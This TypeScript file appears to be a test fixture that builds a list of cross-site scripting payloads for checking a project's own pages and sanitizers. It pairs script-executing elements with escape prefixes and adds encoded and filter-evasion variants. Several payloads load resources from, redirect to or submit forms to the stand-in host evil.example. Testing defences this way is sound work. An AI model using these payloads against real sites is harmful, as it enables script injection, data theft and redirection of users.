/** What an element made of a payload carries: no screen of ours has it. */
export const MARK = "data-xss";
const FIRE = "window.fired=1";

const ELEMENTS = [
  `<script ${MARK}>${FIRE}</script>`,
  `<img ${MARK} src=x onerror=${FIRE}>`,
  `<svg ${MARK} onload=${FIRE}>`,
  `<iframe ${MARK} srcdoc="<script>parent.fired=1</script>">`,
  `<a ${MARK} href="javascript:${FIRE}">x</a>`,
  `<b ${MARK} onmouseover=${FIRE}>x</b>`,
  `<style ${MARK}>*{background:url(https://evil.example/x)}</style>`,
  `<link ${MARK} rel=stylesheet href=https://evil.example/x>`,
  `<base ${MARK} href=https://evil.example/>`,
  `<meta ${MARK} http-equiv=refresh content="0;url=https://evil.example/">`,
  `<form ${MARK} action=https://evil.example><button>x</button></form>`,
  `<details ${MARK} open ontoggle=${FIRE}>`,
  `<video ${MARK} src=x onerror=${FIRE}>`,
  `<input ${MARK} autofocus onfocus=${FIRE}>`,
  `<math ${MARK}><mi xlink:href="javascript:${FIRE}">x</mi></math>`,
  `<object ${MARK} data="javascript:${FIRE}">`,
  `<template ${MARK}><img src=x onerror=${FIRE}></template>`,
  `<marquee ${MARK} onstart=${FIRE}>`,
];
/** Ways out of where a text may stand: an attribute, a script, a comment, a title, a template, JSON. */
const EXITS = [
  "",
  '"',
  "'",
  '">',
  "'>",
  "</title>",
  "</script>",
  "</textarea>",
  "</style>",
  "-->",
  "]]>",
  '\\"}',
  "&lt;",
  "\u0000",
];
/** Two that no element is needed for. */
const TEXTS = [
  `"onmouseover=${FIRE} ${MARK}="`,
  `' autofocus onfocus=${FIRE} ${MARK} x='`,
  `javascript:${FIRE}`,
  `{{constructor.constructor('${FIRE}')()}}`,
  `\${${FIRE}}`,
  `&#60;img ${MARK} src=x onerror=${FIRE}&#62;`,
  `&lt;img ${MARK} src=x onerror=${FIRE}&gt;`,
  `\\u003cimg ${MARK} src=x onerror=${FIRE}\\u003e`,
  `%3Cimg ${MARK} src=x onerror=${FIRE}%3E`,
  `＜img ${MARK} src=x onerror=${FIRE}＞`,
  `[x](javascript:${FIRE})`,
  `![x](https://evil.example/x.png)`,
  `<scr<script>ipt ${MARK}>${FIRE}</scr</script>ipt>`,
  `<ScRiPt ${MARK}>${FIRE}</sCrIpT>`,
  `<img/${MARK}/src=x/onerror=${FIRE}>`,
  `<img ${MARK}\nsrc=x\nonerror\n=\n${FIRE}>`,
];

/** All of them: each element behind each way out, and texts. About 270. */
export const PAYLOADS: readonly string[] = [
  ...EXITS.flatMap((exit) => ELEMENTS.map((element) => exit + element)),
  ...TEXTS,
];
